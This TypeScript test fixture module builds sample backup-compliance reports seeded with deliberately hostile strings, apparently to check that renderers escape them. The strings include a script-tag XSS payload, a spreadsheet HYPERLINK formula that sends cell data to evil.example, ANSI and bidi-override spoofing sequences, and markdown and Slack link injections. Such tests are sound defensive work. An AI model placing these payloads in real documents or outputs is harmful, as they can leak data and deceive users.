import type { ComplianceReport, TargetDay, TargetReport } from '../../src/report/types.js';
import type { ReportExceptions } from '../../src/report/types-exceptions.js';

/** Text a hostile provider or a careless config could put in front of a reader. */
export const HOSTILE = {
  script: '<script>alert("x")</script>',
  quotes: `"double" 'single' \`back\``,
  emoji: 'backup 💾 done ✅ 👩‍💻',
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  ansi: '\u001b[31mRED\u001b[0m \u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007',
  bidi: 'abc\u202Egnp.exe',
  huge: `${'A'.repeat(100_000)}END-OF-HUGE`,
  markdown: '**bold** [link](http://evil.example) | cell ![img](http://evil.example/x.png)',
  slack: '<!channel> <http://evil.example|click me> & more',
  newline: 'line one\r\nline two\n=cmd',
} as const;

const H = 3_600_000;
const DATES = ['2026-11-09', '2026-11-10', '2026-11-11', '2026-11-12', '2026-11-13', '2026-11-14', '2026-11-15'];

function days(statuses: readonly TargetDay['status'][]): TargetDay[] {
  return DATES.map((date, i) => {
    const status = statuses[i] ?? 'none';
    return {
      date,
      start: `${date}T00:00:00Z`,
      end: `${date}T23:00:00Z`,
      status,
      completed: status === 'completed' ? 1 : 0,
      failed: status === 'failed' ? 1 : 0,
      compliance: status === 'completed' ? 1 : 0.5,
      evidenceCoverage: 1,
      reconstructed: 0,
    };
  });
}

/** A target row with sensible defaults: fully compliant, a backup every day. */
export function targetReport(over: Partial<TargetReport> = {}): TargetReport {
  return {
    id: 'orders-pg',
    cloud: 'aliyun',
    account: 'ali-prod',
    service: 'rds',
    instance: 'rm-1',
    labels: { team: 'payments' },
    compliance: 1,
    evidenceCoverage: 1,
    reconstructed: null,
    time: { compliantMs: 168 * H, alarmMs: 0, unknownMs: 0 },
    previousCompliance: 1,
    complianceChange: 0,
    daysWithBackup: 7,
    days: 7,
    backups: { completed: 7, failed: 0 },
    longestGap: { ms: 24 * H, from: '2026-11-08T02:00:00Z', to: '2026-11-09T02:00:00Z', fromPeriodStart: false },
    rpo: { longestMs: 24 * H, p95Ms: 24 * H, openMs: 21 * H, objectiveMs: 24 * H, met: true, backups: 7 },
    currentAlarms: [],
    resolvedAlarms: [],
    openedAlarms: 0,
    unwatchedMs: 0,
    blindMs: 0,
    drill: null,
    daily: days(['completed', 'completed', 'completed', 'completed', 'completed', 'completed', 'completed']),
    ...over,
  };
}

/** A target whose every provider- and config-sourced string is hostile. */
export function hostileTarget(): TargetReport {
  return targetReport({
    id: `evil-${HOSTILE.script}${HOSTILE.huge}`,
    account: HOSTILE.formula,
    instance: HOSTILE.ansi,
    service: HOSTILE.markdown,
    labels: { team: HOSTILE.slack, [HOSTILE.quotes]: HOSTILE.emoji, note: HOSTILE.bidi },
    compliance: 0.5,
    time: { compliantMs: 84 * H, alarmMs: 60 * H, unknownMs: 24 * H },
    previousCompliance: 0.75,
    complianceChange: -0.25,
    daysWithBackup: 3,
    backups: { completed: 3, failed: 2 },
    rpo: { longestMs: 72 * H, p95Ms: 72 * H, openMs: 21 * H, objectiveMs: 24 * H, met: false, backups: 3 },
    currentAlarms: [
      {
        rule: 'poll-failing',
        severity: 'critical',
        since: '2026-11-14T10:00:00Z',
        reason: `polling failed: ${HOSTILE.script} ${HOSTILE.ansi} ${HOSTILE.huge}`,
      },
      {
        rule: 'failed-backup',
        severity: 'warning',
        since: '2026-11-15T02:00:00Z',
        reason: `${HOSTILE.formula} ${HOSTILE.newline} ${HOSTILE.slack} ${HOSTILE.markdown}`,
      },
    ],
    resolvedAlarms: [
      {
        rule: 'recent-success',
        severity: 'critical',
        openedAt: '2026-11-10T03:00:00Z',
        closedAt: '2026-11-11T02:00:00Z',
        durationMs: 23 * H,
        to: 'ok',
      },
    ],
    openedAlarms: 3,
    blindMs: 24 * H,
    daily: days(['completed', 'failed', 'none', 'completed', 'failed', 'none', 'completed']),
  });
}

/** Exceptions whose every config- and user-sourced string is hostile: a silence, two exclusions, two disabled rules. */
export function hostileExceptions(target: string): ReportExceptions {
  return {
    silences: [
      {
        id: 7,
        author: `${HOSTILE.slack} ${HOSTILE.ansi}`,
        reason: `${HOSTILE.script} ${HOSTILE.markdown} ${HOSTILE.newline} ${HOSTILE.bidi} ${HOSTILE.huge}`,
        from: '2026-11-10T08:00:00Z',
        until: '2026-11-12T08:00:00Z',
        expired: true,
        createdAt: '2026-11-10T07:55:00Z',
        matchers: { target, rule: HOSTILE.markdown, labels: { [HOSTILE.quotes]: HOSTILE.formula } },
        heldBack: 3,
      },
    ],
    exclusions: [
      { account: 'ali-prod', match: HOSTILE.script, reason: `${HOSTILE.formula} ${HOSTILE.slack} ${HOSTILE.markdown} ${HOSTILE.huge}` },
      { account: HOSTILE.formula, match: 'rm-legacy-*', reason: null },
    ],
    disabledRules: [
      { target, rule: 'size-anomaly', where: 'targets[0].rules.size-anomaly' },
      { target: 'orders-pg', rule: 'size-anomaly', where: 'rules.size-anomaly' },
    ],
  };
}

/** A whole report: one hostile target, one fully compliant one, and `extra` more compliant ones. */
export function sampleReport(extra = 0): ComplianceReport {
  const evil = hostileTarget();
  const good = targetReport();
  const more = Array.from({ length: extra }, (_, i) => targetReport({ id: `db-${String(i).padStart(4, '0')}` }));
  const targets = [evil, good, ...more];
  const alarm = {
    target: evil.id,
    rule: 'poll-failing',
    severity: 'critical' as const,
    openedAt: '2026-11-14T10:00:00Z',
    closedAt: null,
    durationMs: null,
    reason: evil.currentAlarms[0]?.reason ?? '',
  };
  return {
    version: 2,
    generatedAt: '2026-11-16T07:00:00Z',
    timezone: 'Europe/Berlin',
    period: { label: '2026-W46', kind: 'week', start: '2026-11-08T23:00:00Z', end: '2026-11-15T23:00:00Z', lengthMs: 168 * H },
    previousPeriod: { label: '2026-W45', kind: 'week', start: '2026-11-01T23:00:00Z', end: '2026-11-08T23:00:00Z', lengthMs: 168 * H },
    fleet: {
      targets: targets.length,
      compliance: 0.75,
      evidenceCoverage: 0.928571,
      reconstructedShare: 0,
      previousCompliance: 0.875,
      complianceChange: -0.125,
      unknownShare: 0.071429,
      targetsInAlarm: 1,
      backups: { completed: 10 + 7 * extra, failed: 2 },
      worstOffenders: [evil.id],
      worstRpo: [
        { target: evil.id, longestMs: 72 * H, p95Ms: 72 * H, openMs: 21 * H, objectiveMs: 24 * H, met: false },
        { target: good.id, longestMs: 24 * H, p95Ms: 24 * H, openMs: 21 * H, objectiveMs: 24 * H, met: true },
      ],
      groups: {
        cloud: [
          {
            value: 'aliyun',
            targets: targets.length,
            compliance: 0.75,
            evidenceCoverage: 1,
            previousCompliance: 0.875,
            complianceChange: -0.125,
            targetsInAlarm: 1,
            backups: { completed: 10, failed: 2 },
          },
        ],
        account: [
          {
            value: HOSTILE.formula,
            targets: 1,
            compliance: 0.5,
            evidenceCoverage: 1,
            previousCompliance: 0.75,
            complianceChange: -0.25,
            targetsInAlarm: 1,
            backups: { completed: 3, failed: 2 },
          },
          {
            value: 'ali-prod',
            targets: 1 + extra,
            compliance: 1,
            evidenceCoverage: 1,
            previousCompliance: 1,
            complianceChange: 0,
            targetsInAlarm: 0,
            backups: { completed: 7, failed: 0 },
          },
        ],
        labels: {
          team: [
            {
              value: HOSTILE.slack,
              targets: 1,
              compliance: 0.5,
              evidenceCoverage: 1,
              previousCompliance: 0.75,
              complianceChange: -0.25,
              targetsInAlarm: 1,
              backups: { completed: 3, failed: 2 },
            },
            {
              value: 'payments',
              targets: 1 + extra,
              compliance: 1,
              evidenceCoverage: 1,
              previousCompliance: 1,
              complianceChange: 0,
              targetsInAlarm: 0,
              backups: { completed: 7, failed: 0 },
            },
          ],
          [HOSTILE.quotes]: [
            {
              value: HOSTILE.emoji,
              targets: 1,
              compliance: 0.5,
              evidenceCoverage: 1,
              previousCompliance: null,
              complianceChange: null,
              targetsInAlarm: 1,
              backups: { completed: 3, failed: 2 },
            },
          ],
        },
      },
      alarmsOpened: [alarm],
      alarmsClosed: [],
      medianTimeToResolveMs: 23 * H,
      blindTargets: [{ target: evil.id, blindMs: 24 * H, longestMs: 20 * H, atEnd: true }],
      daily: DATES.map((date, i) => ({
        date,
        compliance: [1, 0.75, 0.5, 0.9, 0.95, 0.99, 0.6][i] ?? 1,
        evidenceCoverage: 1,
        reconstructed: 0,
        completed: 2,
        failed: i % 3 === 1 ? 1 : 0,
        targetsWithBackup: 2,
      })),
    },
    targets,
    exceptions: hostileExceptions(evil.id),
  };
}
